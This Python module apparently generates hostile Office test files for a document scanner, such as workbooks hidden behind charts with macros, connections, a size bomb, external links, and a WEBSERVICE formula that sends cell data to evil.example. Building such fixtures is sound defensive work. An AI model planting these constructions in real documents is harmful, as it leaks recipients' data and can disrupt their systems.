"""What stands behind a chart and is no plain workbook, or a workbook that stands behind no chart."""

from random import Random

from .. import bases, words
from ..case import Made, hostile
from ..charts import add_chart, with_chart
from ..packages import OFFICE, declare_ending, has_member, opened, packed, relate
from .disguises import PROGRAM
from .objects import connection, formula, in_sheet, macro_sheet

INSIDE = has_member("embeddings/Sheet1.xlsx")


def _behind(workbook: bytes, ending: str, rng: Random) -> Made:
    return words.file_name(rng, ending), with_chart(ending, rng, workbook)


def _harmful(title: str, change) -> None:
    @hostile(f"{title} behind a chart", INSIDE)
    def make(rng: Random) -> Made:
        package = opened(bases.spreadsheet(rng))
        change(package, rng)
        return _behind(packed(package), rng.choice(("docx", "pptx")), rng)


_harmful("a workbook with a program in it", in_sheet)
_harmful("a workbook with a macro sheet", macro_sheet)
_harmful("a workbook with a connection", connection)
_harmful("a workbook that asks a server", formula("WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)"))


@hostile("a program behind a chart", INSIDE)
def program(rng: Random) -> Made:
    return _behind(PROGRAM, "pptx", rng)


@hostile("a Word file behind a chart", INSIDE)
def another_kind(rng: Random) -> Made:
    return _behind(bases.word(rng), "pptx", rng)


@hostile("a chart behind a chart", INSIDE)
def nested(rng: Random) -> Made:
    """The workbook has an embedded one itself, as a chart in it would."""
    inner = opened(bases.spreadsheet(rng))
    inner["xl/embeddings/Sheet1.xlsx"] = bases.spreadsheet(rng)
    declare_ending(inner, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    relate(inner, "xl/worksheets/sheet1.xml", "package", "../embeddings/Sheet1.xlsx")
    return _behind(packed(inner), "docx", rng)


@hostile("a chart's workbook that the text shows as well", INSIDE)
def shared(rng: Random) -> Made:
    package = opened(bases.word(rng))
    add_chart(package, "docx", rng, bases.spreadsheet(rng))
    relate(package, "word/document.xml", f"{OFFICE}/package", "embeddings/Sheet1.xlsx")
    return words.file_name(rng, "docx"), packed(package)


@hostile("a workbook that no chart points to", INSIDE)
def orphan(rng: Random) -> Made:
    package = opened(with_chart("docx", rng, None))
    package["word/embeddings/Sheet1.xlsx"] = bases.spreadsheet(rng)
    declare_ending(package, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    return words.file_name(rng, "docx"), packed(package)


@hostile("a bomb behind a chart", INSIDE)
def bomb(rng: Random) -> Made:
    inner = opened(bases.spreadsheet(rng))
    inner["xl/worksheets/sheet1.xml"] += b" " * 40_000_000
    return _behind(packed(inner), "pptx", rng)


@hostile("a chart whose figures are elsewhere", has_member("chart1.xml.rels"))
def elsewhere(rng: Random) -> Made:
    package = opened(with_chart("pptx", rng, None))
    target = rng.choice(("file:///S:/Children/Cases.xlsx", "https://evil.example/a.xlsx"))
    relate(package, "ppt/charts/chart1.xml", "oleObject", target, external=True)
    return words.file_name(rng, "pptx"), packed(package)
